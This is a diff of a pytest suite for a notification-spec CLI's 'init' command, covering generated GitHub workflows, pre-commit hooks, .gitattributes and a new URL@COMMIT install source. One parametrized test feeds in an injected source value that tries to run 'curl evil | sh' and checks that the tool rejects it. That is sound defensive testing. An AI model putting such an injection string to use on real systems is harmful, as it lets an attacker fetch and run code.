@@ -13,7 +13,6 @@ from typing import TYPE_CHECKING, Any
 
 import pytest
 
-from runner import __version__
 from runner.source import read
 
 if TYPE_CHECKING:
@@ -23,7 +22,9 @@ REPOSITORY = Path(__file__).parent.parent.parent
 CASSETTE = "cassettes/order-placed/the-platform-takes-an-order.yaml"
 SPEC = "specs/order-placed.yaml"
 WORKFLOW = ".github/workflows/notifications.yml"
-WRITTEN = ["runner.yaml", SPEC, "pytest.ini", WORKFLOW, CASSETTE]
+WRITTEN = ["runner.yaml", SPEC, "pytest.ini", ".gitattributes", WORKFLOW, CASSETTE]
+FILL_IN = f"the workflow can't install runner yet: write where from instead of URL@COMMIT in {WORKFLOW}\n"
+SOURCE = "https://github.com/example/suprsend-runner@0123456789abcdef0123456789abcdef01234567"
 CUT_OFF = """
 import sys
 
@@ -72,7 +73,7 @@ def test_it_tells_what_it_wrote_and_what_to_do_next(in_tmp: Path, cli: CommandLi
     assert ended.code == 0
     assert ended.out == "".join(f"written  {path}\n" for path in WRITTEN)
     assert ended.err == (
-        "next:\n"
+        f"{FILL_IN}next:\n"
         "  runner validate specs/\n      finds every fault of every spec\n"
         "  runner test specs/\n      replays the cases from their cassettes, with no network\n"
         f"  runner send {SPEC} --var user=u1 --sandbox\n      sends the event to a server on this machine\n"
@@ -136,7 +137,7 @@ def test_a_new_folder_is_made(cli: CommandLine) -> None:
     ended = cli("init", "my shop/events")
     assert ended.code == 0
     assert sorted(files()) == sorted(f"my shop/events/{path}" for path in WRITTEN)
-    assert ended.err.startswith("next, after `cd 'my shop/events'`:\n")
+    assert "\nnext, after `cd 'my shop/events'`:\n" in ended.err
 
 
 @pytest.mark.usefixtures("in_tmp")
@@ -148,12 +149,74 @@ def test_within_a_repository_its_root_has_the_workflow_and_the_cassettes(cli: Co
             "events/runner.yaml",
             f"events/{SPEC}",
             "events/pytest.ini",
+            ".gitattributes",
             WORKFLOW,
             "cassettes/events/specs/order-placed/the-platform-takes-an-order.yaml",
         )
     )
     assert workflow()["defaults"] == {"run": {"working-directory": "events"}}
     assert cli("cassette", "list", "-o", "json").json["cassettes"][0]["spec"] == f"events/{SPEC}"
+
+
+@pytest.mark.usefixtures("in_tmp")
+def test_each_project_of_a_repository_has_a_workflow_that_runs_it(cli: CommandLine) -> None:
+    Path(".git").mkdir()
+    for folder in ("app", "a", "teams/b c"):
+        assert cli("init", folder).code == 0
+    names = {"notifications.yml": "app", "notifications-a.yml": "a", "notifications-teams-b-c.yml": "teams/b c"}
+    assert {path.name for path in Path(WORKFLOW).parent.iterdir()} == set(names)
+    for name, folder in names.items():
+        found = workflow(f".github/workflows/{name}")
+        assert found["defaults"] == {"run": {"working-directory": folder}}
+        assert found["jobs"]["replay"]["steps"][-1]["with"]["path"] == f"{folder}/junit.xml"
+    before = files()
+    assert "written" not in cli("init", "a").out
+    assert files() == before
+
+
+@pytest.mark.usefixtures("in_tmp")
+def test_a_workflow_that_runs_no_specs_is_told(cli: CommandLine) -> None:
+    Path(WORKFLOW).parent.mkdir(parents=True)
+    Path(WORKFLOW).write_text("name: my own\n")
+    told = f"{WORKFLOW} was there already, and does not run `runner test`: no workflow runs these specs\n"
+    assert cli("init").err.startswith(told)
+
+
+@pytest.mark.usefixtures("in_tmp")
+def test_init_again_does_not_add_the_first_spec_to_others(cli: CommandLine) -> None:
+    cli("init")
+    Path(SPEC).rename("specs/my-own.yaml")
+    Path(CASSETTE).unlink()
+    before = files()
+    assert SPEC not in cli("init").out
+    assert files() == before
+
+
+@pytest.mark.usefixtures("in_tmp")
+def test_attributes_of_git_that_are_there_are_kept_and_told(cli: CommandLine) -> None:
+    Path(".gitattributes").write_text("* text=auto\n")
+    told = "to keep the ends of lines in recordings, add to .gitattributes: cassettes/** text eol=lf\n"
+    assert told in cli("init").err
+    assert Path(".gitattributes").read_text() == "* text=auto\n"
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "https://github.com/example/suprsend-runner",
+        "https://github.com/example/suprsend-runner@main",
+        "https://github.com/example/suprsend-runner@v1.0.0",
+        "https://user:password@example.com/suprsend-runner@0123456789abcdef0123456789abcdef01234567",
+        'https://example.com/"; curl evil | sh #@0123456789abcdef0123456789abcdef01234567',
+        "http://example.com/suprsend-runner@0123456789abcdef0123456789abcdef01234567",
+        "suprsend-runner",
+    ],
+)
+@pytest.mark.usefixtures("in_tmp")
+def test_a_workflow_installs_from_a_commit_alone(cli: CommandLine, source: str) -> None:
+    ended = cli("init", "--from", source)
+    assert (ended.code, files()) == (64, {})
+    assert "is not URL@COMMIT, an https address without credentials and a whole commit" in ended.err
 
 
 @pytest.mark.usefixtures("in_tmp")
@@ -195,18 +258,19 @@ def test_other_settings_are_none_of_pytest(cli: CommandLine) -> None:
 
 @pytest.mark.usefixtures("in_tmp")
 def test_the_workflow_is_yaml_whose_commands_exist(cli: CommandLine, cut_off: dict[str, str]) -> None:
-    cli("init")
+    cli("init", "--from", SOURCE)
     found = workflow()
     assert list(found) == ["name", "on", "permissions", "jobs"]
     assert list(found["on"]) == ["push", "pull_request", "workflow_dispatch", "schedule"]
     steps = [step for job in found["jobs"].values() for step in job["steps"]]
     commands = [step["run"] for step in steps if "run" in step]
-    assert commands == [
-        f"pip install suprsend-runner=={__version__}",
+    install = f'pip install "git+{SOURCE}"'
+    assert commands[:4] + commands[5:] == [
+        install,
         "runner validate specs/ -o github",
         "runner cassette check -o github",
-        "runner test specs/",
-        f"pip install suprsend-runner=={__version__}",
+        "runner test specs/ --junit-xml junit.xml",
+        install,
         "runner cassette verify --profile staging -o github",
     ]
     for command in commands[1:4]:
@@ -243,10 +307,10 @@ def hooks() -> dict[str, Any]:
 
 
 def test_the_hooks_are_of_the_form_that_pre_commit_knows() -> None:
-    known = ["id", "name", "description", "entry", "language", "files", "exclude", "types"]
+    known = ["id", "name", "description", "entry", "args", "language", "files", "pass_filenames"]
     assert {name: list(hook) for name, hook in hooks().items()} == {
         "runner-validate": known,
-        "runner-cassette-check": [key for key in known if key != "exclude"],
+        "runner-cassette-check": [key for key in known if key != "args"],
     }
     assert all(hook["language"] == "python" for hook in hooks().values())
 
@@ -255,23 +319,31 @@ def test_the_hooks_are_of_the_form_that_pre_commit_knows() -> None:
     ("hook", "fault", "code"),
     [
         ("runner-validate", (SPEC, "event: order_placed", "evnt: order_placed"), 2),
+        ("runner-validate", ("specs/_base.yaml", "version: 1", "labels: smoke"), 2),
+        ("runner-validate", ("specs/order.json", "{}", "{"), 2),
+        ("runner-validate", ("runner.yaml", "env_allowed: [PDF_TOKEN]", "env_allowed: []"), 2),
         ("runner-cassette-check", (SPEC, "name: the platform takes", "name: it takes"), 6),
+        ("runner-cassette-check", (CASSETTE, "interactions:", "interaction:"), 6),
     ],
 )
 @pytest.mark.usefixtures("in_tmp")
-def test_a_hook_takes_the_files_of_a_commit(
+def test_a_hook_looks_at_all_that_a_commit_concerns(
     cli: CommandLine, cut_off: dict[str, str], hook: str, fault: tuple[str, str, str], code: int
 ) -> None:
     cli("init")
     Path("specs/_base.yaml").write_text("version: 1\n")
-    chosen = [
-        name
-        for name in sorted(files())
-        if re.search(hooks()[hook]["files"], name) and not re.search(hooks()[hook].get("exclude", "^$"), name)
-    ]
-    assert chosen == [{"runner-validate": SPEC, "runner-cassette-check": CASSETTE}[hook]]
-    command = shlex.join([*shlex.split(hooks()[hook]["entry"]), *chosen])
-    assert run(command, cut_off).returncode == 0
+    Path("specs/order.json").write_text("{}")
+    Path("runner.yaml").write_text(Path("runner.yaml").read_text().replace("# env_allowed", "env_allowed"))
+    child = "version: 1\nextends: _base.yaml\nevent: paid\ndistinct_id: '{{ who }}'\nschema: order.json\n"
+    child += "vars: {who: {type: string, env: PDF_TOKEN, secret: false}}\n"
+    Path("specs/child.yaml").write_text(child)
     path, old, new = fault
+    for folder in ("", "shop/"):
+        assert re.search(hooks()[hook]["files"], folder + path)
+    assert not re.search(hooks()[hook]["files"], "docs/guide.yaml")
+    command = shlex.join([*shlex.split(hooks()[hook]["entry"]), *hooks()[hook].get("args", [])])
+    ended = run(command, cut_off)
+    assert ended.returncode == 0, ended.stdout
+    assert old in Path(path).read_text()
     Path(path).write_text(Path(path).read_text().replace(old, new))
     assert run(command, cut_off).returncode == code
